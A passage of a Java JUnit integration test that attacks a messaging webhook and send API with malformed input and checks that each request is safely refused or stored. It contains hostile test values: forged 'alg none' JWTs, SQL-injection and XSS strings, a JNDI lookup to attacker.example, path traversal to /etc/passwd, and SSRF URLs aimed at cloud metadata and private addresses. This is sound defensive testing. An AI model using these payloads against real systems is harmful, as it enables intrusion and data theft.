package kz.qazedu.bundle;

import static kz.qazedu.bundle.support.EvolutionSamples.JSON;
import static kz.qazedu.bundle.support.EvolutionSamples.newMessageId;
import static kz.qazedu.bundle.support.EvolutionSamples.sample;
import static kz.qazedu.bundle.support.EvolutionSamples.textMessage;
import static kz.qazedu.bundle.support.EvolutionSamples.uniqueInstance;
import static kz.qazedu.bundle.support.WebhookClient.TOKEN;
import static kz.qazedu.bundle.support.WebhookClient.TOKEN_HEADER;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import kz.qazedu.bundle.support.IntegrationTest;
import kz.qazedu.bundle.support.Jwts;
import kz.qazedu.bundle.support.RawHttp;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every entrance of the bundle as an attacker and a broken client use it: the webhook intake, the send API, the
 * instance and deliveries APIs and the actuator, with bad credentials, malformed and non-object JSON, wrong types,
 * deep nesting, huge values, invalid UTF-8, NUL and unpaired surrogates, wrong content types and charsets, oversized
 * headers and bodies, reserved event names, identifiers beyond their limits, media URLs into the network, and
 * injection-looking text. Each case checks the status, that the answer is JSON naming the problem without
 * internals, that a refused request stored nothing, and that a valid event still goes through afterwards; at the
 * end, every one of those valid events has reached the normalized tables.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest extends IntegrationTest {

    private static final String API = "Bearer test-api-token";
    private static final String JWT_SECRET = "test-jwt-secret-with-at-least-32-bytes!";
    private static final String FLOW_INSTANCE = uniqueInstance();
    private static final List<String> FLOWED = new ArrayList<>();
    private static final List<String> INTERNALS = List.of("Exception", "SQLState", "SQL state", "Detail:", "\tat ",
            "org.postgresql", "org.springframework", "org.apache", "java.lang", "PSQL", "ERROR:", "relation \"");

    /** A request and what must come of it. */
    record Case(String name, byte[] request, int status, String error, Check check) {

        @Override
        public String toString() {
            return name;
        }
    }

    /** What an accepted hostile request must have done. */
    @FunctionalInterface
    interface Check {
        void verify(HostileInputTest test, RawHttp.Response response) throws Exception;
    }

    @Order(1)
    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void isAnsweredAsItDeservesAndLosesNothingElse(Case hostile) throws Exception {
        long seqBefore = maxSeq();
        int outboundBefore = count("select count(*) from outbound_message");
        String deliveriesBefore = deliveries();

        RawHttp.Response response = RawHttp.exchange(httpPort(camelContext), hostile.request());

        assertThat(response.status()).as(hostile.name() + ": " + response.text()).isEqualTo(hostile.status());
        assertThat(response.headers().get("content-type")).as(hostile.name()).startsWith("application/json");
        JsonNode body = response.json();
        assertThat(INTERNALS).as(hostile.name() + " leaks nothing: " + response.text())
                .noneMatch(internal -> response.text().contains(internal));
        if (hostile.status() >= 400) {
            assertThat(body.path("error").isTextual()).as(hostile.name()).isTrue();
            assertThat(body.path("message").asText()).as(hostile.name()).isNotBlank();
            if (hostile.error() != null) {
                assertThat(body.path("error").asText()).as(hostile.name() + ": " + response.text())
                        .isEqualTo(hostile.error());
            }
            assertThat(maxSeq()).as(hostile.name() + " stored no event").isEqualTo(seqBefore);
            assertThat(count("select count(*) from outbound_message")).as(hostile.name() + " stored no message")
                    .isEqualTo(outboundBefore);
            assertThat(deliveries()).as(hostile.name() + " changed no delivery").isEqualTo(deliveriesBefore);
        }
        if (hostile.check() != null) {
            hostile.check().verify(this, response);
        }

        String id = newMessageId();
        ObjectNode valid = textMessage(FLOW_INSTANCE, "77051234567@s.whatsapp.net", id, "valid after a hostile case");
        assertThat(webhooks.post(valid).status()).as("a valid event after " + hostile.name()).isEqualTo(202);
        FLOWED.add(id);
    }

    @Order(2)
    @Test
    void everyValidEventPostedBetweenTheCasesReachedTheMessageTable() {
        assertThat(FLOWED).hasSizeGreaterThanOrEqualTo(150);
        eventually().until(() -> count("select count(*) from message where instance = ?", FLOW_INSTANCE)
                == FLOWED.size());
    }

    static Stream<Case> cases() {
        List<Case> cases = new ArrayList<>();
        webhookCredentials(cases);
        webhookPathsAndMethods(cases);
        malformedBodies(cases);
        envelopes(cases);
        reservedNames(cases);
        identifiers(cases);
        contentTypesAndSizes(cases);
        acceptedButHostile(cases);
        sendApi(cases);
        mediaUrls(cases);
        messageLookups(cases);
        instanceApi(cases);
        deliveriesApi(cases);
        actuator(cases);
        return cases.stream();
    }

    // ---------------------------------------------------------------- webhook intake

    private static void webhookCredentials(List<Case> cases) {
        byte[] body = message().toString().getBytes(StandardCharsets.UTF_8);
        long now = System.currentTimeMillis() / 1000;
        String valid = "{\"alg\":\"HS256\",\"typ\":\"JWT\"}";
        Map<String, String> bearers = new LinkedHashMap<>();
        bearers.put("not a JWT", "Bearer not-a-jwt");
        bearers.put("alg none", "Bearer " + encode("{\"alg\":\"none\"}") + "." + encode(claims(now, now + 600)) + ".");
        bearers.put("HS512", "Bearer " + jwt("{\"alg\":\"HS512\"}", claims(now, now + 600), JWT_SECRET));
        bearers.put("another secret", "Bearer " + jwt(valid, claims(now, now + 600), "another-secret-of-at-least-32-bytes!!"));
        bearers.put("expired", "Bearer " + jwt(valid, claims(now - 1200, now - 600), JWT_SECRET));
        bearers.put("issued in the future", "Bearer " + jwt(valid, claims(now + 3600, now + 4200), JWT_SECRET));
        bearers.put("living a year", "Bearer " + jwt(valid, claims(now, now + 31_536_000), JWT_SECRET));
        bearers.put("no iat", "Bearer " + jwt(valid, "{\"exp\":" + (now + 600) + "}", JWT_SECRET));
        bearers.put("no exp", "Bearer " + jwt(valid, "{\"iat\":" + now + "}", JWT_SECRET));
        bearers.put("header not JSON", "Bearer " + encode("x") + "." + encode(claims(now, now + 600)) + ".c2ln");
        bearers.put("not base64", "Bearer !!!.!!!.!!!");
        String good = jwt(valid, claims(now, now + 600), JWT_SECRET);
        String[] parts = good.split("\\.");
        bearers.put("claims swapped", "Bearer " + parts[0] + "." + encode(claims(now, now + 99_999)) + "." + parts[2]);
        bearers.put("Basic", "Basic " + Base64.getEncoder().encodeToString(("evolution:" + TOKEN).getBytes(StandardCharsets.UTF_8)));
        bearers.forEach((name, value) -> cases.add(webhook("JWT " + name, "/webhook/evolution",
                Map.of("Authorization", value), body, 401, "unauthorized")));

        cases.add(webhook("no credentials", "/webhook/evolution", Map.of(), body, 401, "unauthorized"));
        cases.add(webhook("wrong token header", "/webhook/evolution", Map.of(TOKEN_HEADER, "wrong"), body, 401, "unauthorized"));
        cases.add(webhook("token header with the token as a prefix", "/webhook/evolution",
                Map.of(TOKEN_HEADER, TOKEN + "x"), body, 401, "unauthorized"));
        cases.add(webhook("token in the query string", "/webhook/evolution?" + TOKEN_HEADER + "=" + TOKEN, Map.of(),
                body, 401, "unauthorized"));
        cases.add(webhook("bearer JWT in the query string", "/webhook/evolution?Authorization=Bearer%20" + good,
                Map.of(), body, 401, "unauthorized"));
        cases.add(webhook("wrong token in the path", "/webhook/evolution/key/wrong", Map.of(), body, 401, "unauthorized"));
        cases.add(webhook("wrong token in the path with an event", "/webhook/evolution/key/wrong/messages-upsert",
                Map.of(), body, 401, "unauthorized"));
        cases.add(webhook("the token in the path, percent-encoded wrongly", "/webhook/evolution/key/%74est-webhook-tokeN",
                Map.of(), body, 401, "unauthorized"));
    }

    private static void webhookPathsAndMethods(List<Case> cases) {
        byte[] body = message().toString().getBytes(StandardCharsets.UTF_8);
        Map<String, String> token = Map.of(TOKEN_HEADER, TOKEN);
        cases.add(webhook("segments after the event", "/webhook/evolution/key/" + TOKEN + "/a/b", Map.of(), body, 404, "not_found"));
        cases.add(webhook("an empty token segment", "/webhook/evolution/key//messages-upsert", Map.of(), body, 401,
                "unauthorized"));
        cases.add(webhook("key without a token", "/webhook/evolution/key", token, body, 404, "not_found"));
        cases.add(webhook("three segments", "/webhook/evolution/a/b/c", token, body, 404, "not_found"));
        cases.add(new Case("GET on the webhook", RawHttp.request("GET", "/webhook/evolution", token, null), 405,
                "method_not_allowed", null));
        cases.add(new Case("PUT on the webhook", RawHttp.request("PUT", "/webhook/evolution", token, body), 405,
                "method_not_allowed", null));
        cases.add(new Case("DELETE on the webhook", RawHttp.request("DELETE", "/webhook/evolution", token, null), 405,
                "method_not_allowed", null));
        cases.add(new Case("a path outside every route, anonymous", RawHttp.request("GET", "/admin", Map.of(), null),
                401, "unauthorized", null));
        cases.add(new Case("a path outside every route, with the API token",
                RawHttp.request("GET", "/admin/../etc/passwd", Map.of("Authorization", API), null), 404, "not_found", null));
    }

    private static void malformedBodies(List<Case> cases) {
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("an empty body", new byte[0]);
        bodies.put("whitespace only", "   \n ".getBytes(StandardCharsets.UTF_8));
        bodies.put("truncated JSON", "{\"event\": \"messages.upsert\", ".getBytes(StandardCharsets.UTF_8));
        bodies.put("trailing garbage", (message() + " trailing").getBytes(StandardCharsets.UTF_8));
        bodies.put("two objects", (message() + "" + message()).getBytes(StandardCharsets.UTF_8));
        bodies.put("single quotes", "{'event': 'messages.upsert', 'instance': 'x'}".getBytes(StandardCharsets.UTF_8));
        bodies.put("a comment", ("/* hi */ " + message()).getBytes(StandardCharsets.UTF_8));
        bodies.put("NaN", "{\"event\":\"x\",\"instance\":\"y\",\"data\":{\"n\":NaN}}".getBytes(StandardCharsets.UTF_8));
        bodies.put("a raw NUL byte in a string", replace(message(), "Olá", "O\u0000l").getBytes(StandardCharsets.UTF_8));
        bodies.put("a number of 2000 digits", ("{\"event\":\"x\",\"instance\":\"y\",\"data\":{\"n\":" + "9".repeat(2000)
                + "}}").getBytes(StandardCharsets.UTF_8));
        bodies.put("a field name of 60000 characters", ("{\"event\":\"x\",\"instance\":\"y\",\"data\":{\"" + "n".repeat(60_000)
                + "\":1}}").getBytes(StandardCharsets.UTF_8));
        bodies.put("nested 65 deep", nested(65).getBytes(StandardCharsets.UTF_8));
        bodies.put("nested 1000 deep", nested(1000).getBytes(StandardCharsets.UTF_8));
        bodies.put("100000 open brackets", "[".repeat(100_000).getBytes(StandardCharsets.UTF_8));
        bodies.forEach((name, body) -> cases.add(webhook(name, "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN), body,
                400, name.equals("an empty body") || name.equals("whitespace only") ? "empty_body" : "invalid_json")));

        cases.add(webhook("UTF-16", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                message().toString().getBytes(StandardCharsets.UTF_16LE), 400, "invalid_encoding"));
        cases.add(webhook("UTF-32", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                message().toString().getBytes(Charset.forName("UTF-32")), 400, "invalid_encoding"));
        byte[] invalidUtf8 = bytes(replace(message(), "Olá", "O__l"));
        int at = indexOf(invalidUtf8, "__".getBytes(StandardCharsets.US_ASCII));
        invalidUtf8[at] = (byte) 0xC3;
        invalidUtf8[at + 1] = (byte) 0x28;
        cases.add(webhook("invalid UTF-8", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN), invalidUtf8, 400, "invalid_encoding"));
        byte[] overlong = bytes(replace(message(), "Olá", "O__l"));
        overlong[at] = (byte) 0xC0;
        overlong[at + 1] = (byte) 0xAF;
        cases.add(webhook("overlong UTF-8", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN), overlong, 400, "invalid_encoding"));

        Map<String, String> unstorable = new LinkedHashMap<>();
        unstorable.put("the NUL character in a text", replace(message(), "Olá", "O\\u0000l"));
        unstorable.put("the NUL character in a field name", replace(message(), "\"pushName\"", "\"push\\u0000Name\""));
        unstorable.put("an unpaired high surrogate", replace(message(), "Olá", "O\\ud800l"));
        unstorable.put("an unpaired low surrogate", replace(message(), "Olá", "O\\udc00l"));
        unstorable.forEach((name, body) -> cases.add(webhook(name, "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                bytes(body), 400, "unstorable_payload")));
    }

    private static void envelopes(List<Case> cases) {
        Map<String, String> envelope = new LinkedHashMap<>();
        envelope.put("null", "null");
        envelope.put("an array", "[]");
        envelope.put("a string", "\"messages.upsert\"");
        envelope.put("a number", "123");
        envelope.put("true", "true");
        envelope.put("event missing", "{\"instance\":\"x\",\"data\":{}}");
        envelope.put("event a number", "{\"event\":7,\"instance\":\"x\"}");
        envelope.put("event empty", "{\"event\":\"\",\"instance\":\"x\"}");
        envelope.put("event null", "{\"event\":null,\"instance\":\"x\"}");
        envelope.put("event an object", "{\"event\":{\"a\":1},\"instance\":\"x\"}");
        envelope.put("instance missing", "{\"event\":\"messages.upsert\",\"data\":{}}");
        envelope.put("instance a number", "{\"event\":\"messages.upsert\",\"instance\":5}");
        envelope.put("instance blank", "{\"event\":\"messages.upsert\",\"instance\":\"   \"}");
        envelope.put("data a string", "{\"event\":\"messages.upsert\",\"instance\":\"x\",\"data\":\"x\"}");
        envelope.put("data a number", "{\"event\":\"messages.upsert\",\"instance\":\"x\",\"data\":1}");
        envelope.put("data a boolean", "{\"event\":\"messages.upsert\",\"instance\":\"x\",\"data\":false}");
        envelope.forEach((name, body) -> cases.add(webhook("envelope: " + name, "/webhook/evolution",
                Map.of(TOKEN_HEADER, TOKEN), bytes(body), 400, "invalid_envelope")));

        Map<String, String[]> fields = new LinkedHashMap<>();
        fields.put("event of 65 characters", new String[] {"event", "e".repeat(65)});
        fields.put("event with a space", new String[] {"event", "messages upsert"});
        fields.put("event with a slash", new String[] {"event", "messages/upsert"});
        fields.put("event climbing paths", new String[] {"event", "../../etc/passwd"});
        fields.put("event in Cyrillic", new String[] {"event", "сообщения.новые"});
        fields.put("event with a newline", new String[] {"event", "messages.upsert\nX-Injected: 1"});
        fields.put("instance of 101 characters", new String[] {"instance", "i".repeat(101)});
        fields.put("instance with a slash", new String[] {"instance", "clinic/01"});
        fields.put("instance '..'", new String[] {"instance", ".."});
        fields.put("instance with '..'", new String[] {"instance", "a..b"});
        fields.put("instance with a newline", new String[] {"instance", "clinic\n01"});
        fields.put("instance with SQL", new String[] {"instance", "x' OR '1'='1"});
        fields.put("instance with markup", new String[] {"instance", "<script>alert(1)</script>"});
        fields.put("instance starting with a space", new String[] {"instance", " clinic"});
        fields.put("instance with a pipe", new String[] {"instance", "a|b"});
        fields.forEach((name, field) -> {
            ObjectNode body = message();
            body.put(field[0], field[1]);
            cases.add(webhook("envelope: " + name, "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                    bytes(body.toString()), 400, "invalid_request"));
        });
    }

    private static void reservedNames(List<Case> cases) {
        for (String name : List.of("outbound.status", "outbound.instance", "OUTBOUND.STATUS", "outbound.anything",
                "bundle.heartbeat", "message.status", "message.received", "message.sent", "instance.sending",
                "instance.connection", "instance.qrcode")) {
            ObjectNode body = message();
            body.put("event", name);
            body.with("data").put("status", "read");
            cases.add(webhook("reserved event " + name, "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                    bytes(body.toString()), 400, "reserved_event"));
        }
    }

    private static void identifiers(List<Case> cases) {
        Random random = new Random(42);
        StringBuilder noise = new StringBuilder();
        while (noise.length() < 3000) {
            noise.append(Long.toHexString(random.nextLong()));
        }
        List<String[]> keyFields = List.of(
                new String[] {"key.id of 129 characters", "id", "A".repeat(129)},
                new String[] {"key.id with a space", "id", "3EB0 ABC"},
                new String[] {"key.id in Cyrillic", "id", "ИДЕНТИФИКАТОР"},
                new String[] {"key.id with a newline", "id", "3EB0\nABC"},
                new String[] {"remoteJid of 3000 characters", "remoteJid", noise + "@s.whatsapp.net"},
                new String[] {"remoteJid with a space", "remoteJid", "7705 1234567@s.whatsapp.net"},
                new String[] {"remoteJidAlt of 200 characters", "remoteJidAlt", "1".repeat(190) + "@lid"});
        for (String[] field : keyFields) {
            ObjectNode body = message();
            body.with("data").with("key").put(field[1], field[2]);
            cases.add(webhook("messages.upsert " + field[0], "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                    bytes(body.toString()), 400, "invalid_request"));
        }
        ObjectNode sent = sample("send.message.text.json", uniqueInstance());
        sent.with("data").with("key").put("id", "B".repeat(300));
        cases.add(webhook("send.message key.id of 300 characters", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                bytes(sent.toString()), 400, "invalid_request"));
        for (String[] field : List.of(
                new String[] {"keyId of 129 characters", "keyId", "K".repeat(129)},
                new String[] {"status of 40 characters", "status", "S".repeat(40)},
                new String[] {"status with a space", "status", "READ NOW"},
                new String[] {"remoteJid of 500 characters", "remoteJid", "7".repeat(485) + "@s.whatsapp.net"})) {
            ObjectNode update = sample("messages.update.read.multi-key-1of2.json", uniqueInstance());
            update.with("data").put(field[1], field[2]);
            cases.add(webhook("messages.update " + field[0], "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                    bytes(update.toString()), 400, "invalid_request"));
        }
        ObjectNode deleted = sample("messages.delete.json", uniqueInstance());
        deleted.with("data").put("id", "D".repeat(200));
        cases.add(webhook("messages.delete id of 200 characters", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                bytes(deleted.toString()), 400, "invalid_request"));
        ObjectNode edited = sample("messages.edited.json", uniqueInstance());
        edited.with("data").with("key").put("id", "E".repeat(200));
        cases.add(webhook("messages.edited key.id of 200 characters", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                bytes(edited.toString()), 400, "invalid_request"));
    }

    private static void contentTypesAndSizes(List<Case> cases) {
        byte[] body = bytes(message().toString());
        for (String charset : List.of("utf-16", "iso-8859-1", "koi8-r", "\"no-such-charset\"", "windows-1251")) {
            cases.add(webhook("charset " + charset, "/webhook/evolution",
                    Map.of(TOKEN_HEADER, TOKEN, "Content-Type", "application/json; charset=" + charset), body, 415,
                    "unsupported_charset"));
        }
        cases.add(new Case("a body over MAX_BODY_BYTES, refused from its Content-Length",
                RawHttp.request("POST", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN,
                        "Content-Length", String.valueOf(60L * 1024 * 1024)), null), 413, "payload_too_large", null));
        cases.add(new Case("Content-Length not a number", RawHttp.request("POST", "/webhook/evolution",
                Map.of(TOKEN_HEADER, TOKEN, "Content-Length", "abc"), null), 400, null, null));
        cases.add(new Case("a negative Content-Length", RawHttp.request("POST", "/webhook/evolution",
                Map.of(TOKEN_HEADER, TOKEN, "Content-Length", "-1"), null), 400, null, null));
        cases.add(new Case("headers of 20 KB", RawHttp.request("POST", "/webhook/evolution",
                Map.of(TOKEN_HEADER, TOKEN, "X-Padding", "p".repeat(20_000)), body), 431, "headers_too_large", null));
        Map<String, String> many = new LinkedHashMap<>();
        many.put(TOKEN_HEADER, TOKEN);
        for (int i = 0; i < 2000; i++) {
            many.put("X-H" + i, "v");
        }
        cases.add(new Case("2000 headers", RawHttp.request("POST", "/webhook/evolution", many, body), 431,
                "headers_too_large", null));
        cases.add(new Case("a request line of 10 KB", RawHttp.request("POST", "/webhook/evolution?" + "q".repeat(10_000),
                Map.of(TOKEN_HEADER, TOKEN), body), 414, "uri_too_long", null));
        cases.add(new Case("not HTTP", "HELLO\r\n\r\n".getBytes(StandardCharsets.US_ASCII), 400, "invalid_request", null));
    }

    private static void acceptedButHostile(List<Case> cases) {
        for (String text : List.of("'); drop table message; --", "\" OR 1=1 --", "<script>alert(document.cookie)</script>",
                "${jndi:ldap://attacker.example/x}", "{{7*7}} #{7*7} <%= 7*7 %>", "%s%s%s%n%x", "\u202Egnp.exe",
                "Привет 👋 مرحبا", "../../../../etc/passwd", "x".repeat(64 * 1024))) {
            ObjectNode body = message();
            String id = body.path("data").path("key").path("id").asText();
            ((ObjectNode) body.path("data").path("message")).put("conversation", text);
            cases.add(webhook("stored verbatim: " + abbreviate(text), "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                    bytes(body.toString()), 202, null, (test, response) -> test.storedVerbatim(body, id, text)));
        }
        ObjectNode huge = message();
        huge.with("data").put("messageTimestamp", 1e17);
        cases.add(webhook("a timestamp of 1e17", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN), bytes(huge.toString()),
                202, null, (test, response) -> test.storedWithoutTimestamp(huge)));
        ObjectNode negative = message();
        negative.with("data").put("messageTimestamp", -5);
        cases.add(webhook("a negative timestamp", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                bytes(negative.toString()), 202, null, (test, response) -> test.storedWithoutTimestamp(negative)));
        ObjectNode presence = sample("presence.update.json", uniqueInstance());
        presence.with("data").put("id", "P".repeat(500));
        cases.add(webhook("an odd id in an event about no message", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN),
                bytes(presence.toString()), 202, null, (test, response) -> assertThat(test.jdbc.queryForObject(
                        "select message_id from inbound_event where event_id = ?", String.class,
                        response.json().path("eventId").asText())).isNull()));
        ByteArrayOutputStream bom = new ByteArrayOutputStream();
        bom.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        bom.writeBytes(bytes(message().toString()));
        cases.add(webhook("a UTF-8 byte order mark", "/webhook/evolution", Map.of(TOKEN_HEADER, TOKEN), bom.toByteArray(),
                202, null, null));
        byte[] chunkedBody = bytes(message().toString());
        cases.add(new Case("a chunked body", RawHttp.request("POST", "/webhook/evolution",
                Map.of(TOKEN_HEADER, TOKEN, "Transfer-Encoding", "chunked"),
                chunked(chunkedBody)), 202, null, null));
        cases.add(webhook("a multipart content type on a JSON body", "/webhook/evolution",
                Map.of(TOKEN_HEADER, TOKEN, "Content-Type", "multipart/form-data; boundary=x"), bytes(message().toString()),
                202, null, null));
        cases.add(webhook("the token header and a wrong one in the query", "/webhook/evolution?" + TOKEN_HEADER + "=wrong",
                Map.of(TOKEN_HEADER, TOKEN), bytes(message().toString()), 202, null, null));
    }

    // ---------------------------------------------------------------- send API

    private static void sendApi(List<Case> cases) {
        String valid = sendRequest().toString();
        cases.add(api("send without credentials", "POST", "/api/v1/messages", Map.of(), bytes(valid), 401, "unauthorized"));
        cases.add(api("send with a wrong token", "POST", "/api/v1/messages", Map.of("Authorization", "Bearer wrong"),
                bytes(valid), 401, "unauthorized"));
        cases.add(api("send with Basic", "POST", "/api/v1/messages", Map.of("Authorization", "Basic dGVzdC1hcGktdG9rZW4="),
                bytes(valid), 401, "unauthorized"));
        cases.add(api("send with the token in the query string", "POST",
                "/api/v1/messages?Authorization=Bearer%20test-api-token", Map.of(), bytes(valid), 401, "unauthorized"));
        cases.add(api("send with the token as the Authorization value alone", "POST", "/api/v1/messages",
                Map.of("Authorization", "test-api-token"), bytes(valid), 401, "unauthorized"));

        Map<String, String> token = Map.of("Authorization", API);
        cases.add(api("send an empty body", "POST", "/api/v1/messages", token, new byte[0], 400, "empty_body"));
        cases.add(api("send an array", "POST", "/api/v1/messages", token, bytes("[]"), 400, "invalid_request"));
        cases.add(api("send broken JSON", "POST", "/api/v1/messages", token, bytes("{\"to\": "), 400, "invalid_json"));
        cases.add(api("send nested 100 deep", "POST", "/api/v1/messages", token, bytes(nested(100)), 400, "invalid_json"));
        cases.add(api("send a text with NUL", "POST", "/api/v1/messages", token,
                bytes(valid.replace("Reminder", "Remi\\u0000nder")), 400, "unstorable_payload"));
        cases.add(api("send a text with an unpaired surrogate", "POST", "/api/v1/messages", token,
                bytes(valid.replace("Reminder", "Remi\\udbffnder")), 400, "unstorable_payload"));
        byte[] latin1 = valid.replace("Reminder", "Réminder").getBytes(StandardCharsets.ISO_8859_1);
        cases.add(api("send Latin-1 bytes", "POST", "/api/v1/messages", token, latin1, 400, "invalid_encoding"));
        cases.add(api("send in UTF-16", "POST", "/api/v1/messages",
                Map.of("Authorization", API, "Content-Type", "application/json; charset=utf-16"),
                valid.getBytes(StandardCharsets.UTF_16), 415, "unsupported_charset"));
        cases.add(api("send a body over API_MAX_BODY_BYTES", "POST", "/api/v1/messages",
                Map.of("Authorization", API, "Content-Length", String.valueOf(2 * 1024 * 1024)), null, 413,
                "payload_too_large"));

        Map<String, Object> bad = new LinkedHashMap<>();
        bad.put("an unknown field", Map.of("colour", "red"));
        bad.put("to as a number", Map.of("to", 77051234567L));
        bad.put("text as an array", Map.of("text", List.of("a")));
        bad.put("media as a string", Map.of("media", "https://files.example.com/a.jpg"));
        bad.put("instance of 101 characters", Map.of("instance", "i".repeat(101)));
        bad.put("instance climbing paths", Map.of("instance", "../admin"));
        bad.put("instance with a slash", Map.of("instance", "a/b"));
        bad.put("instance empty", Map.of("instance", ""));
        bad.put("instance with a NUL-free control character", Map.of("instance", "a\u0007b"));
        bad.put("to in letters", Map.of("to", "abcdefg"));
        bad.put("to of one digit", Map.of("to", "1"));
        bad.put("to of 1000 digits", Map.of("to", "7".repeat(1000)));
        bad.put("to as a JID with spaces", Map.of("to", "7705 123@s.whatsapp.net"));
        bad.put("text of 5000 characters", Map.of("text", "t".repeat(5000)));
        bad.put("text blank", Map.of("text", "   "));
        bad.put("replyTo of 200 characters", Map.of("replyTo", "R".repeat(200)));
        bad.put("replyTo with a space", Map.of("replyTo", "3EB0 1"));
        bad.put("crmMessageId of 300 characters", Map.of("crmMessageId", "c".repeat(300)));
        bad.put("crmMessageId empty", Map.of("crmMessageId", ""));
        bad.forEach((name, fields) -> {
            ObjectNode request = sendRequest();
            @SuppressWarnings("unchecked")
            Map<String, Object> change = (Map<String, Object>) fields;
            change.forEach((field, value) -> request.set(field, JSON.valueToTree(value)));
            cases.add(api("send with " + name, "POST", "/api/v1/messages", token, bytes(request.toString()), 400,
                    "invalid_request"));
        });
        cases.add(api("send with an Idempotency-Key of 300 characters", "POST", "/api/v1/messages",
                Map.of("Authorization", API, "Idempotency-Key", "k".repeat(300)), bytes(valid), 400, "invalid_request"));
        // the key's UTF-8 bytes in the header, which the head carries byte for byte
        String utf8Key = new String("ключ".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
        cases.add(api("send with a non-ASCII Idempotency-Key", "POST", "/api/v1/messages",
                Map.of("Authorization", API, "Idempotency-Key", utf8Key), bytes(valid), 400, "invalid_request"));
    }

    private static void mediaUrls(List<Case> cases) {
        Map<String, ObjectNode> media = new LinkedHashMap<>();
        for (String url : List.of("ftp://files.example.com/a.jpg", "file:///etc/passwd", "gopher://files.example.com/",
                "http://localhost:8080/actuator/prometheus", "http://127.0.0.1/", "http://169.254.169.254/latest/meta-data/",
                "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://[::1]/",
                "http://[::ffff:127.0.0.1]/", "http://10.0.0.1/", "http://192.168.1.1/", "http://172.17.0.1:5432/",
                "http://100.64.0.1/", "http://0.0.0.0/", "https://user:pass@files.example.com/a.jpg",
                "https://no-such-host.invalid/a.jpg", "https://files.example.com/" + "a".repeat(3000))) {
            media.put("media.url " + abbreviate(url), mediaRequest("image", url));
        }
        ObjectNode control = mediaRequest("document", "https://93.184.215.14/a.pdf");
        control.with("media").put("fileName", "bill\u0007.pdf");
        media.put("media.fileName with a control character", control);
        ObjectNode longName = mediaRequest("document", "https://93.184.215.14/a.pdf");
        longName.with("media").put("fileName", "f".repeat(300) + ".pdf");
        media.put("media.fileName of 300 characters", longName);
        ObjectNode mime = mediaRequest("image", "https://93.184.215.14/a.jpg");
        mime.with("media").put("mimetype", "not a type");
        media.put("media.mimetype not a media type", mime);
        ObjectNode audio = mediaRequest("audio", "https://93.184.215.14/a.ogg");
        audio.with("media").put("caption", "no captions on audio");
        media.put("media.caption on audio", audio);
        ObjectNode sticker = mediaRequest("sticker", "https://93.184.215.14/a.webp");
        media.put("media.type sticker", sticker);
        ObjectNode both = mediaRequest("image", "https://93.184.215.14/a.jpg");
        both.put("text", "and text");
        media.put("text and media", both);
        media.forEach((name, request) -> cases.add(api("send with " + name, "POST", "/api/v1/messages",
                Map.of("Authorization", API), bytes(request.toString()), 400, "invalid_request")));
    }

    private static void messageLookups(List<Case> cases) {
        Map<String, String> token = Map.of("Authorization", API);
        cases.add(api("a message id of 300 characters", "GET", "/api/v1/messages/" + "m".repeat(300), token, null, 400,
                "invalid_request"));
        cases.add(api("a message id with NUL", "GET", "/api/v1/messages/out_%00", token, null, 400, "invalid_request"));
        cases.add(api("a message id climbing paths", "GET", "/api/v1/messages/..%2F..%2Fetc%2Fpasswd", token, null, 400,
                "invalid_request"));
        cases.add(api("an unknown message id", "GET", "/api/v1/messages/out_0000", token, null, 404, "not_found"));
        cases.add(api("a message without credentials", "GET", "/api/v1/messages/out_0000", Map.of(), null, 401,
                "unauthorized"));
        cases.add(api("DELETE on a message", "DELETE", "/api/v1/messages/out_0000", token, null, 405,
                "method_not_allowed"));
    }

    private static void instanceApi(List<Case> cases) {
        Map<String, String> token = Map.of("Authorization", API);
        cases.add(api("an instance of 101 characters", "GET", "/api/v1/instances/" + "i".repeat(101) + "/sending", token,
                null, 400, "invalid_request"));
        cases.add(api("an instance with '..'", "GET", "/api/v1/instances/a..b/sending", token, null, 400, "invalid_request"));
        cases.add(api("an instance with NUL", "GET", "/api/v1/instances/a%00b/sending", token, null, 400, "invalid_request"));
        cases.add(api("an instance with a slash", "GET", "/api/v1/instances/a%2Fb/sending", token, null, 400,
                "invalid_request"));
        cases.add(api("an instance with a quote", "POST", "/api/v1/instances/x'%20or%20'1'='1/sending/pause", token,
                bytes(""), 400, "invalid_request"));
        cases.add(api("pause without credentials", "POST", "/api/v1/instances/clinic-01/sending/pause", Map.of(), bytes(""),
                401, "unauthorized"));
        cases.add(api("resume with the token in the query string", "POST",
                "/api/v1/instances/clinic-01/sending/resume?Authorization=Bearer%20test-api-token", Map.of(), bytes(""),
